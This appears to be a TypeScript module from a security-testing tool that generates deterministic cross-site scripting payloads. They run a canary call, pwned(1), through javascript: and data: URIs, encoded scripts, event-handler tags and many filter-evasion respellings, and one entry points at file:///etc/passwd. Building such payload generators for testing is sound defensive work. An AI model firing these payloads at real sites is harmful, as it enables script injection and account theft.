/** Generates payloads that try to run `pwned(1)` or to load something. The same number gives the same payloads. @module */

import { listed } from '../samples/listed.ts'
import { addressPayloads, textPayloads } from '../samples/payloads.ts'
import { cases, codes, encodings, endings, quotings, separators, wrappers } from './xss-contexts.ts'
import { events, firing, loaders, tags, templates } from './xss-elements.ts'

const schemes: readonly string[] = listed(
  'javascript:pwned(1)¦javascript:top.pwned(1)¦javascript://x.example/%0apwned(1)',
  'javascript:/*--></script><svg/onload=pwned(1)>*/pwned(1)',
  'javascript:"<script>opener.pwned(1)</script>"¦vbscript:pwned(1)',
  'data:text/html,<script>opener.pwned(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
  'data:text/html;charset=utf-7,+ADw-script+AD4-pwned(1)+ADw-/script+AD4-',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">pwned(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(1)"/>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+',
  'data:image/png;base64,"><img src=x onerror=pwned(1)>',
  'data:image/png,<script>pwned(1)</script>',
  'data:text/xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned(1)</x:script>',
  'data:,pwned(1)¦blob:null/pwned(1)¦view-source:javascript:pwned(1)¦about:srcdoc',
  'file:///etc/passwd¦http:javascript:pwned(1)¦https://x.example/" onmouseover="pwned(1)',
  "https://x.example/' onmouseover='pwned(1)¦https://x.example/`onmouseover=pwned(1)",
  'https://x.example/"><script>pwned(1)</script>¦mailto:a@b.example?"onmouseover="pwned(1)',
  '#" onfocus="pwned(1)" autofocus="¦#"><img src=x onerror=pwned(1)>',
  '?"><img src=x onerror=pwned(1)>¦//canary.invalid/"><script>pwned(1)</script>',
  '\\\\canary.invalid\\x" onclick="pwned(1)',
)

/** Spellings that browsers, or hasty filters, read as the same address. */
const spellings: readonly ((address: string) => string)[] = [
  same,
  (address) => address.toUpperCase().replace('PWNED', 'pwned'),
  (address) => address.replace(/^./, (letter) => letter.toUpperCase()),
  (address) => ` ${address}`,
  (address) => `\t${address}`,
  (address) => `\n${address}`,
  (address) => `\u0001${address}`,
  (address) => `&#0;${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\ufeff${address}`,
  (address) => `\u200b${address}`,
  (address) => `\u00ad${address}`,
  (address) => address.replace(/^(..)/, '$1\t'),
  (address) => address.replace(/^(..)/, '$1\n'),
  (address) => address.replace(/^(..)/, '$1\u000b'),
  (address) => address.replace(/^(..)/, '$1\u200b'),
  (address) => address.replace(/^(..)/, '$1 '),
  (address) => address.replace(':', '\n:'),
  (address) => address.replace(':', ' :'),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '&#x3A;'),
  (address) => address.replace(':', '\\:'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', '\uff1a'),
  (address) => address.replace(':', '&Tab;:'),
  (address) => address.replace(/^(...)/, '$1&NewLine;'),
  (address) => address.replace(/^(...)/, '$1&#9;'),
  (address) => address.replace(/^(...)/, '$1%09'),
  (address) => `&#1;${address}`,
  (address) => `&#x20;&#x0a;${address}`,
  (address) => `%20${address}`,
  (address) => `%6a${address.slice(1)}`,
  (address) => address.replace('s', '\u017f'),
  (address) => address.replace('i', '\u0131'),
  (address) => [...address].map((character) => `&#${character.codePointAt(0)};`).join(''),
  (address) =>
    [...address].map((character) => `&#x${character.charCodeAt(0).toString(16)}`).join(''),
  (address) => encodeURIComponent(address),
  (address) => `http://x.example/?${address}`,
  (address) => `//${address}`,
  (address) => `./${address}`,
  (address) => `/${address}`,
  (address) => `url(${address})`,
  (address) => `"${address}"`,
  (address) => `'${address}'`,
  (address) => `\`${address}\``,
  (address) => `<${address}>`,
  (address) => `${address}#`,
  (address) => `${address}//http://x.example`,
]

function same(text: string): string {
  return text
}

export function xssPayloads(count: number): string[] {
  const payloads = new Set([
    ...[...textPayloads, ...addressPayloads].map(asPwned),
    ...loaders,
    ...templates,
    ...firing.map((element) => `<${element}=pwned(1)>`),
    ...schemes,
    ...spellings.map((spell) => spell('javascript:pwned(1)')),
    ...wrappers.map(([before, after]) => `${before}<img src=x onerror=pwned(1)>${after}`),
    ...events.map((event) => `<b on${event}=pwned(1)>x</b>`),
  ])
  for (let index = 0; payloads.size < count; index += 1) payloads.add(combined(index))
  return [...payloads].slice(0, count)
}

/** The service refuses NUL, so content holds it only by reference. */
function asPwned(payload: string): string {
  return payload.replaceAll(/alert\(1\)|msgbox\(1\)/g, 'pwned(1)').replaceAll('\0', '&#0;')
}

function chooser(index: number): <Item>(items: readonly Item[]) => Item {
  let state = index + 0x9e3779b9
  return (items) => {
    state = Math.imul(state ^ (state >>> 15), 0x85ebca6b) + 0x6d2b79f5
    state ^= state >>> 13
    return items[(state >>> 0) % items.length] as (typeof items)[number]
  }
}

function combined(index: number): string {
  const choose = chooser(index)
  if (index % 4 === 0) return choose(spellings)(choose(schemes).replace('pwned(1)', choose(codes)))
  const payload = index % 4 === 1 ? anyEvent(choose) : firingElement(choose)
  const [before, after] = choose(wrappers)
  return choose(encodings)(before + payload + after)
}

type Choose = ReturnType<typeof chooser>

function firingElement(choose: Choose): string {
  const element = choose(cases)(choose(firing)).replaceAll(' ', choose(separators))
  return `<${element}=${choose(quotings)(choose(codes))}${choose(endings)}`
}

function anyEvent(choose: Choose): string {
  const attribute = `on${choose(cases)(choose(events))}=${choose(quotings)(choose(codes))}`
  return choose([
    () => `<${choose(cases)(choose(tags))}${choose(separators)}${attribute}${choose(endings)}x`,
    () => `${choose(['"', "'", '`', '', '" ', '\\"'])}${choose(separators)}${attribute} x="`,
  ])()
}
